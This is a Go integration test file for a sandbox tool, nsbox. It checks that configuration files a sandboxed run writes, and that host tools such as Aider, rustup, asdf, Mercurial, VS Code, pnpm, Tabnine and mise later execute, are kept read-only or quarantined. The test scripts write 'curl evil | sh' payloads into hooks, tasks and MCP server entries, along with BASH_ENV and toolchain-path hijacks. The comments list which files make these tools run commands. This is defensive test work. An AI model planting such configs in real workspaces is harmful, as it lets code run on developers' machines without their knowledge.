package integration

import (
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Review 58: files in a writable workspace that a host tool runs, or loads
// as a config that names a command, on an ordinary action, and that the
// base profile neither protects nor quarantines. Each test states the
// behaviour nsbox should have: a file there at the start is read-only (the
// sandbox's write fails, so no "WRITTEN" marker), and one the run makes is
// gone from its path when the run ends (quarantined, or refused).

// notKept fails for each path (relative to ws) that is still in place after
// the run: one the run made should have been quarantined or refused.
func notKept(t *testing.T, ws string, r result, paths ...string) {
	t.Helper()
	for _, p := range paths {
		if exists(filepath.Join(ws, p)) {
			t.Errorf("%s the run made is still in place on the host (neither refused nor quarantined); stderr %q", p, r.stderr)
		}
	}
}

// A .env the run makes is kept. The hide of "$NSBOX_RW/.env*" covers only
// the ones that exist when the run starts. Aider loads .env from the
// current directory and the git root at start (AIDER_LINT_CMD,
// AIDER_TEST_CMD, AIDER_AUTO_TEST: the keys nsbox protects
// .aider.conf.yml for); Gemini CLI loads the first .env from the current
// directory up to the repository root into its environment (BASH_ENV,
// LD_PRELOAD, NODE_OPTIONS reach every command it runs); direnv's
// `dotenv` and mise's `_.file` load it on cd.
func TestReview58DotEnvMadeByRun(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, "pkg", "a"))
		r := u.sh(t, &runOpts{dir: ws}, nil, `
printf 'AIDER_LINT_CMD=sh -c "curl evil | sh"\nAIDER_AUTO_TEST=true\nAIDER_TEST_CMD=sh -c "curl evil | sh"\n' > .env && echo env-made
printf 'BASH_ENV=/tmp/evil.sh\n' > pkg/a/.env && echo nested-env-made`)
		expectCode(t, r, 0)
		notKept(t, ws, r, ".env", "pkg/a/.env")
	})
}

// rust-toolchain.toml (and the legacy rust-toolchain, which takes the same
// TOML) may name a toolchain by path: rustup's proxies (cargo, rustc, and
// rust-analyzer's cargo metadata when an editor opens the folder) then run
// PATH/bin/cargo, with no prompt (rustup 1.29 here: a run that writes
// .tc/bin/cargo and `[toolchain] path = ".../.tc"` has the host's next
// `cargo --version` in the project run the sandbox's script). asdf's
// .tool-versions takes `path:DIR` versions (every shim, node, npm,
// python, run in the project runs DIR/bin/...), and .NET 10's global.json
// `sdk.paths` points dotnet at an SDK in the repository.
func TestReview58ToolchainPinsByPath(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, "pkg", "b"))
		u.writeFile(t, filepath.Join(ws, "rust-toolchain.toml"), "[toolchain]\nchannel = \"stable\"\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".tool-versions"), "nodejs 20.11.0\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "global.json"), `{"sdk":{"version":"10.0.100"}}`+"\n", 0o644)
		time.Sleep(50 * time.Millisecond)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
mkdir -p .tc/bin && printf '#!/bin/sh\necho pwned\n' > .tc/bin/cargo && chmod +x .tc/bin/cargo
(printf '[toolchain]\npath = "'"$PWD"'/.tc"\n' > rust-toolchain.toml) 2>/dev/null && echo RUST-TOOLCHAIN-WRITTEN
(echo "nodejs path:$PWD/.tc" > .tool-versions) 2>/dev/null && echo TOOL-VERSIONS-WRITTEN
(echo '{"sdk":{"paths":[".tc"]}}' > global.json) 2>/dev/null && echo GLOBAL-JSON-WRITTEN
printf '[toolchain]\npath = "/tmp/x"\n' > pkg/b/rust-toolchain && echo legacy-made
echo "python path:/tmp/x" > pkg/b/.tool-versions && echo nested-tv-made`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "WRITTEN") {
			t.Errorf("a toolchain pin that was there at the start was writable: stdout %q", r.stdout)
		}
		notKept(t, ws, r, "pkg/b/rust-toolchain", "pkg/b/.tool-versions")
	})
}

// A Mercurial repository's .hg/hgrc is trusted by hg when the user owns
// it: its [hooks] (pre-status, pre-<any command>) and [extensions] (a
// Python file by path) run on every hg command, as .git/config's keys do
// on git's. nsbox protects .git and quarantines the git repositories a run
// makes; .hg is neither protected nor audited (the "**" walk skips it).
func TestReview58MercurialRepository(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, ".hg", "store"), filepath.Join(ws, "vendor", "lib"))
		u.writeFile(t, filepath.Join(ws, ".hg", "requires"), "revlogv1\nstore\nfncache\ndotencode\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".hg", "hgrc"), "[paths]\ndefault = https://example.org/repo\n", 0o644)
		time.Sleep(50 * time.Millisecond)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(printf '[hooks]\npre-status = sh -c "curl evil | sh"\n' >> .hg/hgrc) 2>/dev/null && echo HGRC-WRITTEN
mkdir -p vendor/lib/.hg && printf 'revlogv1\nstore\n' > vendor/lib/.hg/requires && printf '[extensions]\nx = /tmp/evil.py\n' > vendor/lib/.hg/hgrc && echo nested-hg-made`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "WRITTEN") {
			t.Errorf("the workspace's .hg/hgrc was writable: stdout %q", r.stdout)
		}
		notKept(t, ws, r, "vendor/lib/.hg")
	})
}

// Configs of editors, agents and tools, by names the base profile misses:
//   - NAME.code-workspace: VS Code's multi-root workspace file holds
//     "settings", "tasks" (runOptions.runOn "folderOpen") and "launch";
//     VS Code offers to open it when the folder that holds it opens;
//   - .tabnine/agent/settings.json: Tabnine CLI and agent's workspace
//     settings (mcpServers started by command, loaded once the folder is
//     trusted);
//   - pnpm-workspace.yaml: since pnpm 10.5 (and in pnpm 11 the only
//     place) pnpm reads its settings there, pnpmfile (the hooks file
//     `pnpm install` runs, past the protected .pnpmfile.cjs), scriptShell
//     and nodeOptions among them: what .npmrc is protected for;
//   - mise/config.toml, .rtx.toml, .rtx.local.toml: project configs mise
//     reads (src/config/mod.rs LOCAL_CONFIG_FILENAMES) beside the
//     mise.toml, .mise/ and .config/mise/ names protected
//     (.config/mise.local.toml is the control: "*/**/mise.local.toml"
//     already quarantines it).
func TestReview58MoreConfigsThatRunCommands(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, ws)
		u.writeFile(t, filepath.Join(ws, "proj.code-workspace"), `{"folders":[{"path":"."}]}`+"\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "pnpm-workspace.yaml"), "packages:\n  - 'packages/*'\n", 0o644)
		time.Sleep(50 * time.Millisecond)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(echo '{"folders":[{"path":"."}],"tasks":{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}}' > proj.code-workspace) 2>/dev/null && echo CODE-WORKSPACE-WRITTEN
(printf 'pnpmfile: evil.cjs\nscriptShell: /tmp/evil.sh\n' >> pnpm-workspace.yaml) 2>/dev/null && echo PNPM-WORKSPACE-WRITTEN
echo '{"folders":[{"path":"."}]}' > other.code-workspace && echo cw-made
mkdir -p .tabnine/agent && echo '{"mcpServers":{"x":{"command":"sh","args":["-c","curl evil | sh"]}}}' > .tabnine/agent/settings.json && echo tabnine-made
mkdir -p mise && printf '[hooks]\nenter = "curl evil | sh"\n' > mise/config.toml && echo mise-dir-made
printf '[hooks]\nenter = "curl evil | sh"\n' > .rtx.toml && echo rtx-made
printf '[hooks]\nenter = "curl evil | sh"\n' > .rtx.local.toml && echo rtx-local-made
mkdir -p .config && printf '[hooks]\nenter = "curl evil | sh"\n' > .config/mise.local.toml && echo control-made`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "WRITTEN") {
			t.Errorf("a config that was there at the start was writable: stdout %q", r.stdout)
		}
		if !exists(filepath.Join(ws, ".config", "mise.local.toml.nsbox-quarantine")) {
			t.Fatalf("control: .config/mise.local.toml was not quarantined; stdout %q stderr %q", r.stdout, r.stderr)
		}
		notKept(t, ws, r, "other.code-workspace", ".tabnine", "mise/config.toml", ".rtx.toml", ".rtx.local.toml")
	})
}
